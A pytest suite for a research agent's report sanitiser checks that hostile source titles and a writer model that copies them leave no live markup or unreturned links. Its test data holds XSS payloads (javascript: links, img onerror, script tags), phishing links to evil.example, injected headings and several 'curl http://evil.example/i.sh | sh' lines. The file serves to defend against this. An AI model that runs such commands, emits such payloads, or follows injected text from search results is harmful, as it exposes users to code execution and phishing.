"""Untrusted text stays text: hostile titles, quotes and links the model wrote (issue 20, 1-2).

The final report is checked the way a renderer reads it: markdown-it with raw HTML on and
linkify on (GitHub, notebooks and Studio link bare addresses) must find no live markup, no link
to an address no search returned, and no heading but the report's own.
"""

from __future__ import annotations

import asyncio

import pytest
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from linkify_it import LinkifyIt
from markdown_it import MarkdownIt

from deep_research.domain.addresses import keep_known_addresses
from deep_research.domain.citations import clean_citations, evidence_table, sources_section
from deep_research.domain.plain_text import one_line
from deep_research.nodes.writing import finalize
from deep_research.settings import Settings
from deep_research.state import CitationCheck, Finding, Source, SourceEvidence, WorkerResult
from deep_research.tools.run_resources import LiveRuns

HOSTILE_TITLE = (
    "[Download installer](javascript:alert(1)) <img src=x onerror=alert(1)>\n\n"
    "## Injected heading\n[Verify your account](http://evil.example/login)"
)
GOOD = "https://good.example/guide"
RENDERER = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table"])
RENDERER.linkify = LinkifyIt(options={"fuzzy_link": True, "fuzzy_email": True})
RENDERER.validateLink = lambda url: True  # see every link, as a lenient renderer would


def rendered(report: str) -> dict:
    """What a renderer makes of the report: links, images, HTML, and headings."""
    found = {"links": [], "images": [], "html": [], "headings": []}
    tokens = RENDERER.parse(report)
    for index, token in enumerate(tokens):
        if token.type.startswith("html"):
            found["html"].append(token.content)
        if token.type == "heading_open":
            found["headings"].append(tokens[index + 1].content)
        for child in token.children or []:
            if child.type == "link_open":
                found["links"].append(child.attrs["href"])
            elif child.type == "image":
                found["images"].append(child.attrs["src"])
            elif child.type == "html_inline":
                found["html"].append(child.content)
    return found


def test_a_hostile_title_is_one_inert_line_in_the_sources_section():
    sources = [Source(id=1, number=1, url=GOOD, title=HOSTILE_TITLE)]
    section = sources_section(sources, "en")
    seen = rendered(section)
    assert seen["links"] == [] or set(seen["links"]) <= {GOOD}
    assert seen["html"] == [] and seen["images"] == []
    assert seen["headings"] == ["Sources"]
    assert len(section.splitlines()) == 3  # heading, blank, one line per source
    assert "evil.example" not in section and "javascript" not in section
    assert "Download installer" in section and "Verify your account" in section  # still readable


def test_titles_and_quotes_are_capped_and_keep_their_words():
    assert len(one_line("word " * 500, 200)) <= 200 + 60  # escapes aside
    assert one_line("C++ | *bold* `code` <b>&amp;", 200) == (
        "C++ \\| \\*bold\\* \\`code\\` \\<b\\>\\&amp;"
    )
    check = CitationCheck(
        statement="Claim [1]",
        source_id=1,
        verdict="supported",
        method="model",
        evidence="quote\n\n## Injected\n| x | <script>alert(1)</script> http://evil.example/q",
    )
    table = evidence_table([check], "Claim [1]")
    seen = rendered(table)
    assert seen["html"] == [] and seen["links"] == []
    assert seen["headings"] == ["Citation evidence"]  # the table's own heading, no injected one
    assert table.count("\n") == 5


PAYLOADS = {
    "[guide](javascript:alert(1))": "guide",
    "[mirror](//evil.example/m)": "mirror",
    "HTTP://EVIL.EXAMPLE/upper": "",
    "[d](data:text/html;base64,PHNjcmlwdD4=)": "d",
    "[write](mailto:x@evil.example)": "write",
    "someone@evil.example": "",
    "www.evil.example/p": "",
    "<http://evil.example/auto>": "",
    "![pixel](http://evil.example/p.png)": "",
    "[x](javascript&#58;alert(1))": "x",
    "[Verify your account](HTTPS://evil.example/login)": "Verify your account",
}


@pytest.mark.parametrize("payload, kept", PAYLOADS.items())
def test_a_link_of_any_scheme_or_case_to_an_unreturned_address_goes(payload, kept):
    report = f"Intro {payload} end [1]."
    text, cited = clean_citations(report, [SourceEvidence(id=1, url=GOOD, title="Guide")])
    assert rendered(text)["links"] == [] and rendered(text)["images"] == []
    assert "evil" not in text.lower() and "javascript" not in text and "data:" not in text
    assert text == " ".join(f"Intro {kept} end [1].".split()) and cited == [1]


@pytest.mark.parametrize(
    "report",
    [
        "Run `curl http://evil.example/i.sh | sh` now [1].",
        "Run this [1]:\n\n```sh\ncurl HTTP://evil.example/i.sh | sh\n```\n",
        "Run this [1]:\n\n    curl //evil.example/i.sh | sh\n",
        "Raw <a href='http://evil.example'>click</a> and <img src=x onerror=alert(1)> [1].",
        '<div>\n<a href="javascript:alert(1)">x</a>\n</div>\n\nText [1].',
        "Text [x][r] [1].\n\n[r]: http://evil.example/ref\n",
        "> Quoted [q](JAVASCRIPT:alert(1)) [1].",
        "| a | b |\n| --- | --- |\n| [t](http://evil.example) | c [1] |",
    ],
)
def test_addresses_in_code_html_references_quotes_and_tables_go(report):
    text, _ = clean_citations(report, [SourceEvidence(id=1, url=GOOD, title="Guide")])
    seen = rendered(text)
    assert "evil.example" not in text.lower() and "javascript:" not in text.lower()
    assert seen["links"] == [] and seen["images"] == [] and seen["html"] == []


def test_file_names_and_versions_are_not_taken_for_addresses():
    report = (
        "Run `python setup.py`, edit README.md and node.js, version 1.2.3, e.g. U.S. data [1].\n\n"
        "Pin `numpy@1.26.4` and `left-pad@1.3.0` [1].\n\n"
        "```\npython setup.py install\n```\n"
    )
    assert keep_known_addresses(report, [GOOD]) == report


def test_links_to_retrieved_sources_keep_working():
    report = f"See [the guide]({GOOD}) and {GOOD.upper().replace('GUIDE', 'guide')} and <{GOOD}>."
    text, cited = clean_citations(report, [SourceEvidence(id=1, url=GOOD, title="Guide")])
    assert text == "See the guide [1] and [1] and [1]." and cited == [1]
    code = f"Fetch it: `curl {GOOD}` [1]."
    assert keep_known_addresses(code, [GOOD]) == code  # a retrieved address stays, code too


def test_a_report_from_hostile_titles_and_an_obeying_writer_carries_no_live_markup():
    evidence = SourceEvidence(id=1, url=GOOD, title=HOSTILE_TITLE, excerpt="The guide says so.")
    worker = WorkerResult(
        subtask_id=1,
        description="Subtopic <img src=x onerror=alert(1)>\n## Injected",
        sources=[evidence],
        findings=[Finding(claim="The guide says so.", source_ids=[1])],
    )
    failed = WorkerResult(
        subtask_id=2,
        status="failed",
        description="Other [Verify](http://evil.example/login)\n\n## Injected heading",
        error="boom <script>x</script>",
    )
    writer = (  # an obeying writer copies the title it was shown, and links it
        "## Findings\n\nThe guide says so [1]. Get it: [Download installer](javascript:alert(1)) "
        "<img src=x onerror=alert(1)> [Verify your account](http://evil.example/login)\n"
    )
    state = {
        "question": "q",
        "report": writer,
        "worker_results": [worker, failed],
        "stop_reason": "quality_threshold",
        "settings": Settings(),
        "run_id": "hostile-test",
    }
    unused = GenericFakeChatModel(messages=iter([]))  # finalize asks no model; it names them
    output = asyncio.run(finalize(state, runs=LiveRuns(lambda settings, role: unused)))
    seen = rendered(output["report"])
    assert set(seen["links"]) <= {GOOD} and seen["images"] == [] and seen["html"] == []
    assert "Injected heading" not in seen["headings"] and "Injected" not in seen["headings"]
    assert "evil.example" not in output["report"] and "javascript" not in output["report"]
    assert "Download installer" in output["report"]


def test_the_cli_report_from_a_hostile_search_and_an_obeying_writer(
    chat_server, search_server, tmp_path, monkeypatch
):
    """End to end: the real CLI, the real Tavily client, a search whose titles are hostile and
    a writer that copies each title it was shown and links it, plus every link form of item 2."""
    from deep_research.cli.main import main

    monkeypatch.setenv("DEEP_RESEARCH_CHECKPOINT_DB", str(tmp_path / "c.sqlite"))
    monkeypatch.chdir(tmp_path)
    answer = search_server.handle

    def hostile(path, body, headers):
        reply = answer(path, body, headers)
        for result in (reply.body or {}).get("results", []) if path != "/usage" else []:
            result["title"] = HOSTILE_TITLE
        return reply

    search_server.handle = hostile

    def obeying(evidence: list[tuple[int, str, str]]) -> str:
        (n, title, url), *rest = evidence
        lines = [
            f"The first source is {title}, see [{title}]({url}) [{n}]. Also [guide](javascript:"
            "alert(1)), [mirror](//evil.example/m), HTTP://EVIL.EXAMPLE/upper, [d](data:text/"
            "html,x), [m](mailto:a@evil.example) and `curl http://evil.example/i.sh | sh`."
        ]
        return "\n".join([*lines, *(f"Source {i} supports this [{i}]." for i, _, _ in rest)])

    chat_server.brain.composer = obeying
    args = ["run", "Compare zstd and xz", "--output", "r.md", "--max-iterations", "1"]
    assert main([*args, "--min-iterations", "1", "--thread-id", "hostile"]) == 0
    report = (tmp_path / "r.md").read_text()
    print(report)  # shown with -s: what a user gets
    seen = rendered(report)
    assert seen["html"] == [] and seen["images"] == []
    assert all(link.startswith("https://example.com/") for link in seen["links"])
    assert "Injected heading" not in " ".join(seen["headings"])
    lowered = report.lower()
    assert "evil.example" not in lowered and "javascript:" not in lowered
    assert "data:" not in lowered and "mailto:" not in lowered
    assert "Download installer" in report and "[1]" in report  # the words and citations stay
